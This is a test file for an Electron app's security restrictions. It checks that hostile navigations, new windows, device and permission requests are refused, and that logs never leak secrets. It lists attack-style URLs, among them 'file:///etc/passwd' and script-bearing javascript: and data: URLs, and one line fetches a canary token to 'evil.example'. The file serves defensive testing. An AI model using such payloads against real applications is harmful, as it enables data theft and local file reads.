import { EventEmitter } from 'node:events';
import type { Session } from 'electron';
import { describe, expect, expectTypeOf, it } from 'vitest';
import { applySecurityRestrictions, restrictContents, type SecurityOptions } from '../../../main/security';
import { canarySecret } from '../../fixtures/canary';

type PermissionName = Parameters<NonNullable<Parameters<Session['setPermissionRequestHandler']>[0]>>[1];
type RequestHandler = NonNullable<Parameters<Session['setPermissionRequestHandler']>[0]>;
type CheckHandler = NonNullable<Parameters<Session['setPermissionCheckHandler']>[0]>;
type DeviceHandler = NonNullable<Parameters<Session['setDevicePermissionHandler']>[0]>;
type OpenHandler = (details: { url: string }) => { action: string };

/** Every permission Electron 45 names; the type test below fails when Electron adds one. */
const ALL_PERMISSIONS = [
  'ar',
  'automatic-fullscreen',
  'background-fetch',
  'background-sync',
  'captured-surface-control',
  'clipboard-read',
  'clipboard-sanitized-write',
  'deprecated-sync-clipboard-read',
  'display-capture',
  'fileSystem',
  'fullscreen',
  'geolocation',
  'geolocation-approximate',
  'hand-tracking',
  'hid',
  'idle-detection',
  'keyboardLock',
  'local-fonts',
  'local-network',
  'local-network-access',
  'loopback-network',
  'media',
  'mediaKeySystem',
  'midi',
  'midiSysex',
  'nfc',
  'notifications',
  'openExternal',
  'payment-handler',
  'periodic-background-sync',
  'persistent-storage',
  'pointerLock',
  'screen-wake-lock',
  'sensors',
  'serial',
  'smart-card',
  'speaker-selection',
  'storage-access',
  'system-wake-lock',
  'top-level-storage-access',
  'usb',
  'vr',
  'web-app-installation',
  'web-printing',
  'window-management',
  'unknown',
] as const satisfies readonly PermissionName[];

const APP = 'app://regdesk';
const DOCS = 'https://docs.spectrocloud.com/registries-and-packs/';

/** URLs a hostile page (or a compromised one) might try to take the window to. */
const HOSTILE_URLS = [
  'file:///etc/passwd',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://regdesk/',
  'https://regdesk/',
  'app://evil/',
  'app://regdesk.evil/',
  'app://user:pw@regdesk/index.html',
  'https://docs.spectrocloud.com.evil.com/',
  'https://user:pw@docs.spectrocloud.com/',
  'http://docs.spectrocloud.com/',
  'blob:app://regdesk/6b1d1b0e-0000-4000-8000-000000000000',
  'about:blank',
  'chrome://settings/',
  'devtools://devtools/bundled/inspector.html',
  'view-source:app://regdesk/index.html',
  'https://evil.example/',
  'not a url',
  '',
];

/** Just enough of app, WebContents and Session to record every listener the module registers. */
function fakeContents() {
  const events = new EventEmitter();
  const captured: { openHandler?: OpenHandler; request?: RequestHandler; check?: CheckHandler; device?: DeviceHandler } = {};
  const contents = {
    on: (event: string, listener: (...args: unknown[]) => void) => events.on(event, listener),
    setWindowOpenHandler: (handler: OpenHandler) => void (captured.openHandler = handler),
    session: {
      setPermissionRequestHandler: (handler: RequestHandler) => void (captured.request = handler),
      setPermissionCheckHandler: (handler: CheckHandler) => void (captured.check = handler),
      setDevicePermissionHandler: (handler: DeviceHandler) => void (captured.device = handler),
    },
  };
  /** Emits a navigation event the way Electron 45 does and says whether it was prevented. */
  const emit = (event: string, url: string, isMainFrame = true): boolean => {
    let prevented = false;
    events.emit(event, { url, isMainFrame, preventDefault: () => (prevented = true) });
    return prevented;
  };
  const windowOpen = (url: string) => {
    if (!captured.openHandler) throw new Error('no window-open handler was registered');
    return captured.openHandler({ url });
  };
  const requestPermission = (permission: PermissionName, requestingUrl: string, isMainFrame = true): boolean => {
    if (!captured.request) throw new Error('no permission request handler was registered');
    let answer: boolean | undefined;
    captured.request({} as never, permission, (granted) => (answer = granted), { requestingUrl, isMainFrame });
    if (answer === undefined) throw new Error(`the request handler never answered for ${permission}`);
    return answer;
  };
  const checkPermission = (permission: PermissionName, requestingOrigin: string, isMainFrame = true): boolean => {
    if (!captured.check) throw new Error('no permission check handler was registered');
    return captured.check(null, permission, requestingOrigin, { isMainFrame, requestingUrl: `${requestingOrigin}/` });
  };
  return { contents, events, captured, emit, windowOpen, requestPermission, checkPermission };
}

function options(): SecurityOptions & { opened: string[]; logged: string[] } {
  const opened: string[] = [];
  const logged: string[] = [];
  return {
    appOrigins: [APP],
    opened,
    logged,
    openExternal: async (url) => void opened.push(url),
    log: { warn: (message) => void logged.push(message) },
  };
}

function restricted() {
  const fake = fakeContents();
  const opts = options();
  restrictContents(fake.contents as never, opts);
  return { ...fake, ...opts };
}

describe('navigation', () => {
  it.each(HOSTILE_URLS)('refuses will-navigate, will-frame-navigate and will-redirect to %j and opens nothing', (url) => {
    const { emit, opened, logged } = restricted();
    expect(emit('will-navigate', url)).toBe(true);
    expect(emit('will-frame-navigate', url, false)).toBe(true);
    expect(emit('will-redirect', url)).toBe(true);
    expect(opened).toEqual([]);
    expect(logged).toHaveLength(3);
  });

  it('lets the app move between its own pages', () => {
    const { emit, logged } = restricted();
    expect(emit('will-navigate', `${APP}/index.html#/registries`)).toBe(false);
    expect(emit('will-frame-navigate', `${APP}/index.html`)).toBe(false);
    expect(emit('will-redirect', `${APP}/index.html`)).toBe(false);
    expect(logged).toEqual([]);
  });

  it('opens an allowlisted documentation link in the system browser instead of navigating the window', () => {
    const { emit, opened } = restricted();
    expect(emit('will-navigate', DOCS)).toBe(true);
    expect(opened).toEqual([DOCS]);
  });

  /**
   * A link the page follows, in Electron 45's order: will-frame-navigate for the main frame first,
   * and will-navigate only when that was not prevented (shell/browser/electron_navigation_throttle.cc).
   */
  const followLink = (emit: (event: string, url: string, isMainFrame?: boolean) => boolean, url: string): boolean =>
    emit('will-frame-navigate', url, true) || emit('will-navigate', url, true);

  it('opens a docs link in the browser exactly once when Electron asks will-frame-navigate first', () => {
    const { emit, opened, logged } = restricted();
    expect(followLink(emit, DOCS)).toBe(true);
    expect(opened).toEqual([DOCS]);
    expect(logged).toEqual([]);
  });

  it('in that order, still keeps the window in the app and refuses what is not allowlisted', () => {
    const { emit, opened, logged } = restricted();
    expect(followLink(emit, `${APP}/index.html`)).toBe(false);
    expect(followLink(emit, 'https://evil.example/')).toBe(true);
    expect(opened).toEqual([]);
    expect(logged).toEqual(['navigation refused: https://evil.example/']);
  });

  it('never follows a redirect or a subframe to the docs into the app, nor opens it from there', () => {
    const { emit, opened } = restricted();
    expect(emit('will-redirect', DOCS)).toBe(true);
    expect(emit('will-frame-navigate', DOCS, false)).toBe(true);
    expect(opened).toEqual([]);
  });

  it('refuses every webview', () => {
    const { emit, logged } = restricted();
    expect(emit('will-attach-webview', `${APP}/index.html`)).toBe(true);
    expect(logged).toEqual(['webview refused']);
  });

  it('logs where a refused URL pointed, never its query, fragment or credentials', () => {
    const { emit, windowOpen, logged } = restricted();
    const token = canarySecret('token');
    emit('will-navigate', `https://user:${token}@evil.example/callback?access_token=${token}#id_token=${token}`);
    windowOpen(`https://docs-spectrocloud.example/x?token=${token}`);
    emit('will-navigate', `javascript:fetch('https://evil.example/?${token}')`);
    emit('will-navigate', `data:text/html,${token}`);
    expect(logged.join('\n')).not.toContain(token);
    expect(logged[0]).toBe('navigation refused: https://evil.example/callback');
    expect(logged[1]).toBe('new window refused: https://docs-spectrocloud.example/x');
    expect(logged[2]).toBe('navigation refused: a javascript: URL');
  });
});

describe('new windows (window.open, target=_blank)', () => {
  it.each([...HOSTILE_URLS, `${APP}/index.html`])('denies %j and opens nothing', (url) => {
    const { windowOpen, opened } = restricted();
    expect(windowOpen(url)).toEqual({ action: 'deny' });
    expect(opened).toEqual([]);
  });

  it.each([
    DOCS,
    'https://docs.aws.amazon.com/AmazonECR/latest/userguide/registry_auth.html',
    'https://github.com/opencontainers/distribution-spec/blob/main/spec.md#pulling-manifests',
  ])('opens allowlisted %s once in the system browser and still denies the window', (url) => {
    const { windowOpen, opened } = restricted();
    expect(windowOpen(url)).toEqual({ action: 'deny' });
    expect(opened).toEqual([url]);
  });

  it('hands the browser the parsed URL, not the raw input', () => {
    const { windowOpen, opened } = restricted();
    windowOpen('HTTPS://DOCS.SPECTROCLOUD.COM:443/a/./b/../c');
    expect(opened).toEqual(['https://docs.spectrocloud.com/a/c']);
  });

  it('logs, rather than throws, when the system browser cannot be opened', async () => {
    const fake = fakeContents();
    const logged: string[] = [];
    restrictContents(fake.contents as never, {
      appOrigins: [APP],
      openExternal: () => Promise.reject(new Error('no browser')),
      log: { warn: (m) => void logged.push(m) },
    });
    expect(fake.windowOpen(DOCS)).toEqual({ action: 'deny' });
    await new Promise((resolve) => setImmediate(resolve));
    expect(logged).toEqual([`could not open ${DOCS} in the browser: no browser`]);
  });
});

describe('permissions', () => {
  it('lists every permission Electron has', () => {
    expectTypeOf<Exclude<PermissionName, (typeof ALL_PERMISSIONS)[number]>>().toEqualTypeOf<never>();
  });

  const refusedEverywhere = ALL_PERMISSIONS.filter((p) => p !== 'clipboard-sanitized-write');

  it.each(refusedEverywhere)('refuses %s, even to the app itself', (permission) => {
    const { requestPermission, checkPermission, logged } = restricted();
    expect(requestPermission(permission, `${APP}/index.html`)).toBe(false);
    expect(checkPermission(permission, APP)).toBe(false);
    expect(logged).toEqual([`permission refused: ${permission} for ${APP}/index.html`]);
  });

  it('grants clipboard writes (the Copy button) to the app main frame only', () => {
    const { requestPermission, checkPermission } = restricted();
    expect(requestPermission('clipboard-sanitized-write', `${APP}/index.html`)).toBe(true);
    expect(checkPermission('clipboard-sanitized-write', APP)).toBe(true);
    for (const url of HOSTILE_URLS) {
      expect(requestPermission('clipboard-sanitized-write', url), url).toBe(false);
      expect(checkPermission('clipboard-sanitized-write', url), url).toBe(false);
    }
    expect(requestPermission('clipboard-sanitized-write', `${APP}/index.html`, false)).toBe(false);
    expect(checkPermission('clipboard-sanitized-write', APP, false)).toBe(false);
  });

  it('offers no HID, serial or USB device', () => {
    const { captured } = restricted();
    expect(captured.device?.({ deviceType: 'usb', origin: APP, device: {} as never })).toBe(false);
    expect(captured.device?.({ deviceType: 'hid', origin: APP, device: {} as never })).toBe(false);
  });
});

describe('applySecurityRestrictions', () => {
  it('restricts every web contents the app creates, not only the main window', () => {
    const app = new EventEmitter();
    const opts = options();
    applySecurityRestrictions(app as never, opts);
    for (const fake of [fakeContents(), fakeContents()]) {
      app.emit('web-contents-created', {}, fake.contents);
      expect(fake.emit('will-navigate', 'https://evil.example/')).toBe(true);
      expect(fake.windowOpen(DOCS)).toEqual({ action: 'deny' });
      expect(fake.requestPermission('media', `${APP}/index.html`)).toBe(false);
      expect(fake.events.listenerCount('will-attach-webview')).toBe(1);
    }
    expect(opts.opened).toEqual([DOCS, DOCS]);
  });
});
